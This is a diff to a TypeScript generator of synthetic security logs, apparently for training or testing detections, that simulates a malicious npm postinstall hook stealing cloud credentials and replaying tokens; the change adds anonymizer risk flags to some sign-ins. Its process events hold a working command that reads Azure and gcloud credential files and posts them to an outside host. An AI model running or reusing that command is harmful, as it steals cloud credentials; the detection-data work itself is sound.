@@ -646,7 +646,10 @@ export function generate(o: GenOptions): Labels {
     proc({ t: t0, dev: dev.device, acct, file: 'sh', folder: '/bin/sh', cmd: `sh -c cat ${home}/.azure/msal_token_cache.json ${home}/.config/gcloud/credentials.db | base64 | curl -s -X POST --data-binary @- https://cdn-telemetry-sync.net/u`, parent: 'node', parentCmd: 'node node_modules/colors-ansi-x/postinstall.js', grand: 'npm' });
     proc({ t: t0 + 20000, dev: dev.device, acct, file: 'python3', folder: '/usr/bin/python3', cmd: `python3 -c "import sqlite3;print(open('${home}/.azure/msal_token_cache.json').read())"`, parent: 'node', parentCmd: 'node node_modules/colors-ansi-x/postinstall.js', grand: 'npm' });
     const t1 = t0 + 95 * 60000;
-    for (let k = 0; k < 5; k++) signIn({ t: t1 + k * 240000, u: dev, app: k < 3 ? 'azcli' : 'graphps', res: k < 3 ? 'arm' : 'graph', ip, site, dev: null, interactive: false, ua: CLI_UA.az('Linux') });
+    // seeds divisible by 3: the replay goes through an anonymizer, which Entra flags (anonymizedIPAddress, medium risk)
+    const anon = o.seed % 3 === 0;
+    for (let k = 0; k < 5; k++) signIn({ t: t1 + k * 240000, u: dev, app: k < 3 ? 'azcli' : 'graphps', res: k < 3 ? 'arm' : 'graph', ip, site, dev: null, interactive: false, ua: CLI_UA.az('Linux'),
+      ...(anon ? { anon: true, risk: 'medium', riskState: 'atRisk', riskEvents: ['anonymizedIPAddress'] } : {}) });
     audit(t1 + 1500000, 'Add service principal credentials', 'ApplicationManagement', { upn: dev.upn, id: dev.id, ip }, [{ id: guid(), displayName: 'app-terraform-ci', type: 'ServicePrincipal', modifiedProperties: [] }]);
     gcp(t1 + 1800000, dev.upn, 'SetIamPolicy', 'cloudresourcemanager.googleapis.com', ip, CLI_UA.gcloud(), `projects/${gcpProject}`);
   }
